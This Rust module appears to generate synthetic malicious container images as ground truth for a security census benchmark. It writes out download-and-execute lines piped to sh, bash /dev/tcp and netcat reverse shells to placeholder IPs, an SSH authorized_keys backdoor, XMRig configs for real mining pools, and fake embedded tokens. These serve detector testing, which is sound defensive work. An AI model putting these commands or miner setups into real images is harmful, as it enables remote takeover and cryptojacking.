//! Planted threats: what a malicious image carries, and where.
//!
//! Each planted repository gets one category (Sysdig's table counts each of its 1,777 images
//! once) and one technique drawn from several per category, so the census sees the same threat
//! in a layer file, in a file an upper layer deletes (whiteout), in `Env`, `Cmd`, `Entrypoint`,
//! a label, the build history, the repository name, or as a domain that a feed lists. The
//! content is real by the detection rules' standards: checksum-valid tokens and wallets,
//! parseable keys, ELF files with the tools' real strings, working configs. A [`Plant`] is a
//! pure function of `(seed, repository, category, push time)`, so the feeds and the ground
//! truth can be produced without building any layer. Some secrets are a campaign's rather than
//! the plant's own ([`super::campaigns`]): the same wallet, key, AWS account or token in several
//! repositories.

use hubcensus_types::Category;

use super::campaigns::{Join, Link, LinkKind};
use super::files::{Entry, elf};
use crate::rng::Rng;
use crate::secrets::{self, EICAR, Ed25519};

/// Where a planted item sits, before layer digests are known.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Spot {
    /// A file added by the plant layer (path without leading `/`).
    File(String),
    /// `config.Env` entry with this key.
    Env(String),
    /// `config.Cmd`.
    Cmd,
    /// `config.Entrypoint`.
    Entrypoint,
    /// `config.Labels[key]`.
    Label(String),
    /// A `history[].created_by` line.
    History,
    /// The repository's name.
    RepoName,
}

/// One planted item.
#[derive(Debug, Clone)]
pub(crate) struct Item {
    pub(crate) technique: &'static str,
    pub(crate) spot: Spot,
    /// A non-secret indicator a census should report (domain, URL, pool host, tool name).
    pub(crate) indicator: Option<String>,
    /// The secret value (never printed; the truth gives a preview and fingerprint).
    pub(crate) secret: Option<String>,
    /// The key the attribution views group the secret by, when they group its kind.
    pub(crate) link: Option<Link>,
}

/// A feed line the plant needs (so feed-decided categories can be decided).
#[derive(Debug, Clone)]
pub(crate) enum FeedRecord {
    /// URLhaus: URL listed on a date.
    Urlhaus { url: String, added: i64 },
    /// Newly-registered domain, registered on a date.
    Nrd { domain: String, registered: i64 },
}

/// Everything one planted image carries.
#[derive(Debug, Clone)]
pub(crate) struct Plant {
    pub(crate) category: Category,
    /// Files of the plant layer (empty: no plant layer).
    pub(crate) files: Vec<Entry>,
    /// Files of the plant layer that an upper layer deletes.
    pub(crate) deleted: Vec<String>,
    /// `created_by` of the plant layer.
    pub(crate) layer_history: String,
    pub(crate) env: Vec<String>,
    pub(crate) cmd: Option<Vec<String>>,
    pub(crate) entrypoint: Option<Vec<String>>,
    pub(crate) labels: Vec<(String, String)>,
    /// Extra history lines without a layer.
    pub(crate) history: Vec<String>,
    pub(crate) items: Vec<Item>,
    pub(crate) feeds: Vec<FeedRecord>,
}

impl Plant {
    fn new(category: Category) -> Self {
        Self {
            category,
            files: Vec::new(),
            deleted: Vec::new(),
            layer_history: String::new(),
            env: Vec::new(),
            cmd: None,
            entrypoint: None,
            labels: Vec::new(),
            history: Vec::new(),
            items: Vec::new(),
            feeds: Vec::new(),
        }
    }

    fn file(
        &mut self,
        technique: &'static str,
        path: &str,
        data: Vec<u8>,
        mode: u32,
        indicator: Option<String>,
        secret: Option<String>,
    ) {
        self.files.push(Entry::file(path, data, mode));
        self.items.push(Item {
            technique,
            spot: Spot::File(path.to_string()),
            indicator,
            secret,
            link: None,
        });
    }

    fn item(
        &mut self,
        technique: &'static str,
        spot: Spot,
        indicator: Option<String>,
        secret: Option<String>,
    ) {
        self.items.push(Item { technique, spot, indicator, secret, link: None });
    }

    /// Marks the item just added as linkable by `link`.
    fn link(&mut self, link: Link) {
        if let Some(item) = self.items.last_mut() {
            item.link = Some(link);
        }
    }
}

/// Mining pools a census must recognise (real pool host names).
const POOLS: &[(&str, u16)] = &[
    ("pool.supportxmr.com", 3333),
    ("xmr.c3pool.com", 13333),
    ("gulf.moneroocean.stream", 10128),
    ("pool.hashvault.pro", 443),
    ("xmr-eu1.nanopool.org", 14444),
    ("xmr.f2pool.com", 13531),
    ("randomxmonero.auto.nicehash.com", 9200),
];

/// Dynamic-DNS provider suffixes (the dyndns feed lists these).
pub(crate) const DDNS_SUFFIXES: &[&str] = &[
    "duckdns.org",
    "ddns.net",
    "hopto.org",
    "zapto.org",
    "no-ip.org",
    "no-ip.biz",
    "dynu.net",
    "mooo.com",
    "freedns.afraid.org",
    "dyndns.org",
    "serveftp.com",
    "sytes.net",
    "myftp.org",
    "ddnsfree.com",
];

/// Real strings of XMRig's binary (help text, donate host, algorithm names).
const XMRIG_STRINGS: &[&str] = &[
    "XMRig 6.21.0",
    "xmrig",
    "Usage: xmrig [OPTIONS]",
    "  -o, --url=URL                 URL of mining server",
    "  -u, --user=USERNAME           username for mining server",
    "      --donate-level=N          donate level, default 1%% (1 minute in 100 minutes)",
    "donate.v2.xmrig.com",
    "stratum+tcp://",
    "stratum+ssl://",
    "rx/0",
    "cn/r",
    "randomx",
    "cryptonight",
    "\"donate-level\"",
];

fn wallet_config(pool: &str, port: u16, wallet: &str) -> String {
    format!(
        "{{\n    \"autosave\": true,\n    \"donate-level\": 1,\n    \"cpu\": {{\n        \"enabled\": true,\n        \"huge-pages\": true,\n        \"max-threads-hint\": 100\n    }},\n    \"randomx\": {{\n        \"init\": -1,\n        \"mode\": \"auto\"\n    }},\n    \"pools\": [\n        {{\n            \"algo\": \"rx/0\",\n            \"coin\": \"monero\",\n            \"url\": \"stratum+tcp://{pool}:{port}\",\n            \"user\": \"{wallet}\",\n            \"pass\": \"x\",\n            \"keepalive\": true,\n            \"tls\": false\n        }}\n    ]\n}}\n"
    )
}

fn private_ip(rng: &mut Rng) -> String {
    format!("10.{}.{}.{}", rng.range(0, 255), rng.range(0, 255), rng.range(2, 254))
}

/// A TEST-NET address (RFC 5737): routable-looking, never real.
fn public_ip(rng: &mut Rng) -> String {
    let net = rng.pick(&["192.0.2", "198.51.100", "203.0.113"]);
    format!("{net}.{}", rng.range(2, 254))
}

/// The plant for repository `repo` (pushed at `pushed`), category `category`.
pub(crate) fn plant(seed: u64, repo: u32, category: Category, pushed: i64, arch: &str) -> Plant {
    plant_joining(seed, repo, category, pushed, arch, &mut Join::new(seed, repo))
}

/// [`plant`], with the campaign draws given.
fn plant_joining(
    seed: u64,
    repo: u32,
    category: Category,
    pushed: i64,
    arch: &str,
    join: &mut Join,
) -> Plant {
    let mut r = Rng::new(seed, "plant", u64::from(repo));
    let mut p = Plant::new(category);
    let technique = r.below(5);
    match category {
        Category::Cryptomining => cryptomining(&mut p, &mut r, technique, arch, join),
        Category::EmbeddedKeys => embedded_keys(&mut p, &mut r, repo, join),
        Category::ProxyAvoidance => proxy(&mut p, &mut r, technique, arch),
        Category::NewlyRegisteredDomain => {
            let d = super::names::domain(&mut r, super::names::DOMAIN_NRD + u64::from(repo));
            let registered = pushed - r.range(1, 25) as i64 * 86_400;
            p.feeds.push(FeedRecord::Nrd { domain: d.clone(), registered });
            domain_use(&mut p, &mut r, technique, &format!("https://{d}/api/v1/collect"), &d, "nrd");
        }
        Category::MaliciousDomain => {
            let d = super::names::domain(&mut r, super::names::DOMAIN_URLHAUS + u64::from(repo));
            let url = format!(
                "http://{d}/{}",
                r.pick(&["bins/x86_64", "update.php", "files/payload.bin", "dl/agent"])
            );
            let added = pushed - r.range(1, 200) as i64 * 86_400;
            p.feeds.push(FeedRecord::Urlhaus { url: url.clone(), added });
            domain_use(&mut p, &mut r, technique, &url, &url, "urlhaus");
        }
        Category::HackingTool => hacking(&mut p, &mut r, technique, arch),
        Category::DynamicDns => {
            let host = format!(
                "{}{}.{}",
                r.pick(&["c2", "home", "srv", "node", "vpn", "box"]),
                r.range(1, 9999),
                r.pick(DDNS_SUFFIXES)
            );
            let technique = technique % 3;
            match technique {
                0 => {
                    p.env.push(format!("C2_HOST={host}"));
                    p.item("ddns_env", Spot::Env("C2_HOST".into()), Some(host), None);
                }
                1 => {
                    p.layer_history = "COPY settings.ini /app/settings.ini # buildkit".into();
                    p.file(
                        "ddns_config_file",
                        "app/settings.ini",
                        format!("[server]\nhost = {host}\nport = 8443\nretry = 30\n").into_bytes(),
                        0o644,
                        Some(host),
                        None,
                    );
                }
                _ => {
                    p.cmd = Some(vec!["/app/client".into(), "--server".into(), format!("{host}:8443")]);
                    p.item("ddns_cmd", Spot::Cmd, Some(host), None);
                }
            }
        }
        Category::Other => match technique % 4 {
            0 => {
                p.layer_history = "COPY eicar.com /tmp/eicar.com # buildkit".into();
                p.file("known_bad_hash", "tmp/eicar.com", EICAR.as_bytes().to_vec(), 0o644, None, None);
            }
            1 => {
                p.layer_history = "COPY sample.com /opt/sample.com # buildkit".into();
                p.file(
                    "known_bad_hash_deleted",
                    "opt/sample.com",
                    EICAR.as_bytes().to_vec(),
                    0o644,
                    None,
                    None,
                );
                p.deleted.push("opt/sample.com".into());
            }
            2 => {
                let ip = public_ip(&mut r);
                let line = format!("RUN /bin/sh -c curl -fsSL http://{ip}/install.sh | sh # buildkit");
                p.history.push(line);
                p.item(
                    "download_execute_history",
                    Spot::History,
                    Some(format!("http://{ip}/install.sh")),
                    None,
                );
            }
            _ => {
                let ip = public_ip(&mut r);
                p.cmd = Some(vec!["/bin/sh".into(), "-c".into(), format!("wget -qO- http://{ip}/s.sh | sh")]);
                p.item("download_execute_cmd", Spot::Cmd, Some(format!("http://{ip}/s.sh")), None);
            }
        },
        Category::Typosquatting => {
            p.item("typosquatted_name", Spot::RepoName, None, None);
        }
    }
    p
}

fn cryptomining(p: &mut Plant, r: &mut Rng, technique: u64, arch: &str, join: &mut Join) {
    let (pool, port) = *r.pick(POOLS);
    let wallet = secrets::monero_address(r);
    // The renamed miner (technique 1) carries no wallet: only the others may join a campaign.
    let wallet = if technique == 1 { wallet } else { join.wallet().unwrap_or(wallet) };
    let wallet_link = Link::hashed(LinkKind::Wallet, &wallet);
    let url = format!("stratum+tcp://{pool}:{port}");
    match technique {
        0 => {
            p.layer_history = "RUN /bin/sh -c mkdir -p /opt/xmrig && tar -xzf /tmp/xmrig.tar.gz -C /opt/xmrig --strip-components=1 && rm /tmp/xmrig.tar.gz # buildkit".into();
            let bin = elf(r, arch, 60_000, XMRIG_STRINGS);
            p.file("xmrig_binary", "opt/xmrig/xmrig", bin, 0o755, Some("xmrig".into()), None);
            p.file(
                "xmrig_config",
                "opt/xmrig/config.json",
                wallet_config(pool, port, &wallet).into_bytes(),
                0o644,
                Some(pool.into()),
                Some(wallet),
            );
            p.link(wallet_link);
            p.entrypoint =
                Some(vec!["/opt/xmrig/xmrig".into(), "-c".into(), "/opt/xmrig/config.json".into()]);
        }
        1 => {
            // A renamed miner that a later layer deletes: only scanning every layer finds it.
            p.layer_history = "COPY kworker /usr/local/bin/kworkerd # buildkit".into();
            let bin = elf(r, arch, 52_000, XMRIG_STRINGS);
            p.file("xmrig_binary_deleted", "usr/local/bin/kworkerd", bin, 0o755, Some("xmrig".into()), None);
            p.deleted.push("usr/local/bin/kworkerd".into());
        }
        2 => {
            p.cmd = Some(vec![
                "/usr/local/bin/xmrig".into(),
                "-o".into(),
                url.clone(),
                "-u".into(),
                wallet.clone(),
                "-k".into(),
                "--donate-level".into(),
                "1".into(),
            ]);
            p.item("miner_cmdline", Spot::Cmd, Some(url), Some(wallet));
            p.link(wallet_link);
        }
        3 => {
            p.env.push(format!("POOL_URL={url}"));
            p.env.push(format!("WALLET_ADDRESS={wallet}"));
            p.item("pool_env", Spot::Env("POOL_URL".into()), Some(url), None);
            p.item("wallet_env", Spot::Env("WALLET_ADDRESS".into()), None, Some(wallet));
            p.link(wallet_link);
        }
        _ => {
            let line = format!(
                "RUN /bin/sh -c ./xmrig --url=stratum+ssl://{pool}:{port} --user={wallet} --donate-level=1 --background # buildkit"
            );
            p.history.push(line);
            p.item(
                "miner_history",
                Spot::History,
                Some(format!("stratum+ssl://{pool}:{port}")),
                Some(wallet),
            );
            p.link(wallet_link);
        }
    }
}

/// Each technique draws its own secret first and then may swap in a campaign's, so the
/// plant's stream is drawn the same either way. The PKCS#8 key and the Docker auth carry
/// nothing the attribution views link (no public half; a token inside base64), so they join
/// no campaign.
fn embedded_keys(p: &mut Plant, r: &mut Rng, repo: u32, join: &mut Join) {
    let token = |r: &mut Rng, join: &mut Join, prefix: &str| {
        let own = secrets::checksummed_token(r, prefix);
        let t = join.token(prefix).unwrap_or(own);
        let link = Link::hashed(LinkKind::Token, &t);
        (t, link)
    };
    match r.below(9) {
        0 => {
            let k = Ed25519::generate(r);
            let k = join.ssh_key().unwrap_or(k);
            let pem = k.openssh_private("root@buildkitsandbox", r.next_u64() as u32);
            p.layer_history = "COPY id_ed25519 /root/.ssh/id_ed25519 # buildkit".into();
            p.file(
                "openssh_private_key",
                "root/.ssh/id_ed25519",
                pem.clone().into_bytes(),
                0o600,
                None,
                Some(pem),
            );
            p.link(Link::ssh(&k));
        }
        1 => {
            let k = Ed25519::generate(r);
            let k = join.ssh_key().unwrap_or(k);
            let line = k.authorized_key("deploy@attacker");
            p.layer_history = "RUN /bin/sh -c mkdir -p /root/.ssh && echo \"$KEY\" >> /root/.ssh/authorized_keys # buildkit".into();
            p.file(
                "authorized_keys_backdoor",
                "root/.ssh/authorized_keys",
                format!("{line}\n").into_bytes(),
                0o600,
                None,
                Some(line),
            );
            p.link(Link::ssh(&k));
        }
        2 => {
            let own_account = 100_000_000_000 + u64::from(repo);
            let (id, secret) = secrets::aws_key_pair(r, own_account);
            let (id, secret, account) = join.aws_key_pair().unwrap_or((id, secret, own_account));
            let text = format!(
                "AWS_ACCESS_KEY_ID={id}\nAWS_SECRET_ACCESS_KEY={secret}\nAWS_DEFAULT_REGION=us-east-1\n"
            );
            p.layer_history = "COPY . /app # buildkit".into();
            p.file("aws_keys_dotenv", "app/.env", text.into_bytes(), 0o644, None, Some(id));
            p.link(Link::aws(account));
        }
        3 => {
            let (t, link) = token(r, join, "ghp_");
            p.env.push(format!("GITHUB_TOKEN={t}"));
            p.item("github_token_env", Spot::Env("GITHUB_TOKEN".into()), None, Some(t));
            p.link(link);
        }
        4 => {
            let (t, link) = token(r, join, "npm_");
            p.layer_history = "COPY .npmrc /root/.npmrc # buildkit".into();
            let text = format!("//registry.npmjs.org/:_authToken={t}\n");
            p.file("npm_token_deleted", "root/.npmrc", text.into_bytes(), 0o600, None, Some(t));
            p.link(link);
            p.deleted.push("root/.npmrc".into());
        }
        5 => {
            let k = Ed25519::generate(r);
            let pem = k.pkcs8_pem();
            p.layer_history = "COPY certs/ /etc/ssl/private/ # buildkit".into();
            p.file(
                "pkcs8_private_key",
                "etc/ssl/private/server.key",
                pem.clone().into_bytes(),
                0o600,
                None,
                Some(pem),
            );
        }
        6 => {
            let (t, link) = token(r, join, "ghp_");
            p.labels.push(("org.opencontainers.image.ci-token".into(), t.clone()));
            p.item(
                "github_token_label",
                Spot::Label("org.opencontainers.image.ci-token".into()),
                None,
                Some(t),
            );
            p.link(link);
        }
        7 => {
            let (t, link) = token(r, join, "npm_");
            p.history.push(format!(
                "RUN /bin/sh -c echo \"//registry.npmjs.org/:_authToken={t}\" > /root/.npmrc && npm ci --omit=dev # buildkit"
            ));
            p.item("npm_token_history", Spot::History, None, Some(t));
            p.link(link);
        }
        _ => {
            let user = format!("ci{}", r.range(100, 999));
            let pass = secrets::checksummed_token(r, "ghp_");
            let auth =
                base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("{user}:{pass}"));
            let text = format!(
                "{{\n\t\"auths\": {{\n\t\t\"https://index.docker.io/v1/\": {{\n\t\t\t\"auth\": \"{auth}\"\n\t\t}}\n\t}}\n}}\n"
            );
            p.layer_history = "COPY config.json /root/.docker/config.json # buildkit".into();
            p.file(
                "docker_config_auth",
                "root/.docker/config.json",
                text.into_bytes(),
                0o600,
                None,
                Some(auth),
            );
        }
    }
}

fn proxy(p: &mut Plant, r: &mut Rng, technique: u64, arch: &str) {
    match technique {
        0 => {
            let bin = elf(
                r,
                arch,
                48_000,
                &[
                    "github.com/go-gost/gost/v3",
                    "github.com/go-gost/core",
                    "gost",
                    "socks5",
                    "relay+tls",
                    "Go buildinf:",
                ],
            );
            p.layer_history = "COPY gost /usr/local/bin/gost # buildkit".into();
            p.file("gost_binary", "usr/local/bin/gost", bin, 0o755, Some("gost".into()), None);
            p.cmd = Some(vec![
                "gost".into(),
                "-L".into(),
                "socks5://:1080".into(),
                "-L".into(),
                "relay+tls://:8443".into(),
            ]);
        }
        1 => {
            let server = public_ip(r);
            let bin = elf(
                r,
                arch,
                48_000,
                &[
                    "github.com/fatedier/frp/client",
                    "github.com/fatedier/frp/pkg/config",
                    "frpc",
                    "Go buildinf:",
                ],
            );
            p.layer_history = "COPY frp/ /etc/frp/ # buildkit".into();
            p.file("frpc_binary", "usr/bin/frpc", bin, 0o755, Some("frpc".into()), None);
            let conf = format!(
                "serverAddr = \"{server}\"\nserverPort = 7000\nauth.method = \"token\"\n\n[[proxies]]\nname = \"ssh-{}\"\ntype = \"tcp\"\nlocalIP = \"127.0.0.1\"\nlocalPort = 22\nremotePort = {}\n",
                r.range(1, 999),
                r.range(6000, 6999)
            );
            p.file("frpc_config", "etc/frp/frpc.toml", conf.into_bytes(), 0o644, Some(server), None);
            p.entrypoint = Some(vec!["/usr/bin/frpc".into(), "-c".into(), "/etc/frp/frpc.toml".into()]);
        }
        2 => {
            let bin = elf(
                r,
                arch,
                40_000,
                &["honeygain", "Honeygain", "-tou-accept", "https://dashboard.honeygain.com"],
            );
            p.layer_history = "COPY honeygain /app/honeygain # buildkit".into();
            p.file("proxyware_binary", "app/honeygain", bin, 0o755, Some("honeygain".into()), None);
            p.entrypoint = Some(vec!["/app/honeygain".into()]);
            p.cmd = Some(vec![
                "-tou-accept".into(),
                "-email".into(),
                format!("earn{}@example.com", r.range(1, 9999)),
                "-device".into(),
                "docker".into(),
            ]);
        }
        3 => {
            let bin = elf(r, arch, 44_000, &["github.com/go-gost/gost/v3", "gost", "socks5"]);
            p.layer_history = "COPY gost /usr/sbin/netd # buildkit".into();
            p.file("gost_binary_deleted", "usr/sbin/netd", bin, 0o755, Some("gost".into()), None);
            p.deleted.push("usr/sbin/netd".into());
        }
        _ => {
            let conf = format!(
                "{{\n  \"server\": \"0.0.0.0\",\n  \"server_port\": {},\n  \"password\": \"{}\",\n  \"method\": \"chacha20-ietf-poly1305\",\n  \"mode\": \"tcp_and_udp\"\n}}\n",
                r.range(8000, 9000),
                r.string(b"abcdefghijklmnopqrstuvwxyz0123456789", 16)
            );
            p.layer_history = "COPY config.json /etc/shadowsocks-libev/config.json # buildkit".into();
            p.file(
                "shadowsocks_config",
                "etc/shadowsocks-libev/config.json",
                conf.into_bytes(),
                0o644,
                Some("chacha20-ietf-poly1305".into()),
                None,
            );
            p.cmd = Some(vec!["ss-server".into(), "-c".into(), "/etc/shadowsocks-libev/config.json".into()]);
            p.item("shadowsocks_cmd", Spot::Cmd, Some("ss-server".into()), None);
        }
    }
}

fn hacking(p: &mut Plant, r: &mut Rng, technique: u64, arch: &str) {
    match technique % 4 {
        0 => {
            let bin = elf(
                r,
                arch,
                64_000,
                &[
                    "masscan",
                    "Masscan/1.3 https://github.com/robertdavidgraham/masscan",
                    "--rate",
                    "--banners",
                    "robertdavidgraham",
                ],
            );
            p.layer_history = "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends masscan # buildkit".into();
            p.file("masscan_binary", "usr/bin/masscan", bin, 0o755, Some("masscan".into()), None);
        }
        1 => {
            let bin = elf(
                r,
                arch,
                64_000,
                &[
                    "hydra",
                    "Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak",
                    "https://github.com/vanhauser-thc/thc-hydra",
                ],
            );
            p.layer_history = "COPY hydra /usr/local/bin/hydra # buildkit".into();
            p.file("hydra_binary", "usr/local/bin/hydra", bin, 0o755, Some("hydra".into()), None);
        }
        2 => {
            let ip = private_ip(r);
            p.cmd =
                Some(vec!["/bin/bash".into(), "-c".into(), format!("bash -i >& /dev/tcp/{ip}/4444 0>&1")]);
            p.item("reverse_shell_cmd", Spot::Cmd, Some(ip), None);
        }
        _ => {
            let ip = private_ip(r);
            p.entrypoint = Some(vec!["/bin/sh".into(), "-c".into(), format!("nc -e /bin/sh {ip} 9001")]);
            p.item("reverse_shell_entrypoint", Spot::Entrypoint, Some(ip), None);
        }
    }
}

fn domain_use(p: &mut Plant, r: &mut Rng, technique: u64, url: &str, indicator: &str, tag: &'static str) {
    let (env, file, hist) = match tag {
        "nrd" => ("nrd_env", "nrd_config_file", "nrd_history"),
        _ => ("urlhaus_env", "urlhaus_config_file", "urlhaus_history"),
    };
    match technique % 3 {
        0 => {
            p.env.push(format!("UPDATE_URL={url}"));
            p.item(env, Spot::Env("UPDATE_URL".into()), Some(indicator.to_string()), None);
        }
        1 => {
            p.layer_history = "COPY config.json /app/config.json # buildkit".into();
            let text = format!(
                "{{\n  \"name\": \"agent\",\n  \"interval\": {},\n  \"endpoint\": \"{url}\"\n}}\n",
                r.range(10, 600)
            );
            p.file(file, "app/config.json", text.into_bytes(), 0o644, Some(indicator.to_string()), None);
        }
        _ => {
            p.history.push(format!("RUN /bin/sh -c wget -q -O /usr/local/bin/helper {url} && chmod +x /usr/local/bin/helper # buildkit"));
            p.item(hist, Spot::History, Some(indicator.to_string()), None);
        }
    }
}

/// A benign look-alike for a clean image: documentation example keys and test keys that a
/// census must report at low confidence and not count.
pub(crate) fn decoy(seed: u64, repo: u32) -> (Entry, &'static str) {
    let mut r = Rng::new(seed, "decoy", u64::from(repo));
    if r.chance(0.5) {
        (
            Entry::file(
                "usr/share/doc/awscli/examples/configure/credentials.txt",
                "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
                0o644,
            ),
            "aws_documentation_example_key",
        )
    } else {
        let k = Ed25519::generate(&mut r);
        (
            Entry::file(
                "usr/local/lib/python3.12/site-packages/paramiko/tests/test_ed25519.key",
                k.openssh_private("test@paramiko", 1),
                0o644,
            ),
            "test_suite_private_key",
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every technique of every category: each item's indicator and secret are really in the
    /// place the item names (the end-to-end walk covers one population; this covers them all).
    #[test]
    fn every_technique_places_what_it_claims() {
        let mut techniques = std::collections::BTreeSet::new();
        for cat in Category::ALL {
            for repo in 0..60u32 {
                let p = plant(7, repo, cat, 1_780_000_000, "amd64");
                assert_eq!(p.category, cat);
                assert!(!p.items.is_empty(), "{cat} plant {repo} has no items");
                for it in &p.items {
                    techniques.insert(it.technique);
                    let text: String = match &it.spot {
                        Spot::File(path) => p
                            .files
                            .iter()
                            .find_map(|f| match f {
                                Entry::File { path: fp, data, .. } if fp == path => {
                                    Some(String::from_utf8_lossy(data).into_owned())
                                }
                                _ => None,
                            })
                            .unwrap_or_else(|| panic!("{}: {path} missing", it.technique)),
                        Spot::Env(key) => {
                            p.env.iter().find(|e| e.starts_with(&format!("{key}="))).cloned().unwrap()
                        }
                        Spot::Cmd => p.cmd.clone().unwrap().join(" "),
                        Spot::Entrypoint => p.entrypoint.clone().unwrap().join(" "),
                        Spot::Label(k) => {
                            p.labels.iter().find(|(lk, _)| lk == k).map(|(_, v)| v.clone()).unwrap()
                        }
                        Spot::History => p.history.first().cloned().unwrap(),
                        Spot::RepoName => String::new(),
                    };
                    if let Some(ind) = &it.indicator {
                        assert!(text.contains(ind.as_str()), "{}: indicator {ind}", it.technique);
                    }
                    if let Some(secret) = &it.secret {
                        assert!(text.contains(secret.as_str()), "{}: secret not placed", it.technique);
                    }
                }
                for d in &p.deleted {
                    assert!(p.files.iter().any(|f| matches!(f, Entry::File { path, .. } if path == d)));
                }
                if !p.files.is_empty() {
                    assert!(!p.layer_history.is_empty());
                }
            }
        }
        assert!(techniques.len() >= 35, "{} techniques: {techniques:?}", techniques.len());
    }

    /// A campaign replaces the secrets it supplies and nothing else: built with its campaign
    /// draws or without, a plant has the same items, files (paths and sizes), config shape and
    /// feeds, so every count and figure of the population stays as it was. And campaigns do
    /// happen: each kind has a key that several plants share.
    #[test]
    fn campaigns_change_only_the_secrets_they_share() {
        let lens = |xs: &[String]| xs.iter().map(String::len).collect::<Vec<_>>();
        let mut shared: std::collections::BTreeMap<Link, usize> = std::collections::BTreeMap::new();
        for cat in [Category::Cryptomining, Category::EmbeddedKeys] {
            for repo in 0..120u32 {
                let a = plant(7, repo, cat, 1_780_000_000, "amd64");
                let b = plant_joining(7, repo, cat, 1_780_000_000, "amd64", &mut Join::never(7));
                let files = |p: &Plant| {
                    p.files
                        .iter()
                        .map(|f| match f {
                            Entry::File { path, data, mode } => (path.clone(), data.len(), *mode),
                            _ => (String::new(), 0, 0),
                        })
                        .collect::<Vec<_>>()
                };
                assert_eq!(files(&a), files(&b), "{cat} {repo}");
                assert_eq!(
                    (&a.deleted, &a.layer_history, &a.labels.len()),
                    (&b.deleted, &b.layer_history, &b.labels.len())
                );
                assert_eq!(lens(&a.env), lens(&b.env));
                assert_eq!(a.cmd.as_deref().map(lens), b.cmd.as_deref().map(lens));
                assert_eq!(lens(&a.history), lens(&b.history));
                assert_eq!(a.items.len(), b.items.len());
                for (x, y) in a.items.iter().zip(&b.items) {
                    assert_eq!((x.technique, &x.spot, &x.indicator), (y.technique, &y.spot, &y.indicator));
                    assert_eq!(x.link.as_ref().map(|l| l.kind), y.link.as_ref().map(|l| l.kind));
                    if x.secret == y.secret {
                        assert_eq!(x.link, y.link, "{}: the same secret, the same link", x.technique);
                    } else {
                        assert!(
                            x.link.is_some() && x.link != y.link,
                            "{}: only linked secrets change",
                            x.technique
                        );
                    }
                    if let Some(link) = &x.link {
                        *shared.entry(link.clone()).or_default() += 1;
                    }
                }
            }
        }
        for kind in LinkKind::ALL {
            let most = shared.iter().filter(|(l, _)| l.kind == kind).map(|(_, n)| *n).max();
            assert!(most >= Some(2), "{kind}: the largest campaign has {most:?} plants");
        }
    }
}
